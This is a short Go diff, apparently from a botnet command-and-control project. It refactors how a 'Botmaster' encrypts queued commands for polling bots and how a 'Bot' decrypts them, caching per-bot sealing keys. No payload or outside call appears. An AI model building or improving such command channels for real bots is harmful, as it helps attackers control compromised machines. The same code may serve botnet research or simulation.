@@ -46,8 +46,14 @@ func (m *Botmaster) handlePoll(conn connSender, rep *Report) {
 		return
 	}
 	delete(m.queues, id)
+	// Reuse the registered record's cached session when the poller has
+	// rallied before; unknown pollers pay the one-shot derivation.
+	sk := rec.sealKey()
+	if reg, ok := m.registry[id]; ok {
+		sk = reg.sealKey()
+	}
 	for _, cmd := range queued {
-		sealed, err := botcrypto.Seal(kb, cmd.Encode(), m.drbg)
+		sealed, err := sk.Seal(cmd.Encode(), m.drbg)
 		if err != nil {
 			continue
 		}
@@ -78,7 +84,7 @@ func (b *Bot) Poll() error {
 	}
 	conn.SetHandler(func(msg []byte) {
 		// Pull replies are commands sealed directly to K_B.
-		if inner, err := botcrypto.Open(b.kb, msg); err == nil {
+		if inner, err := b.kbSeal.Open(msg); err == nil {
 			b.handleDirectedPlain(inner)
 		}
 	})
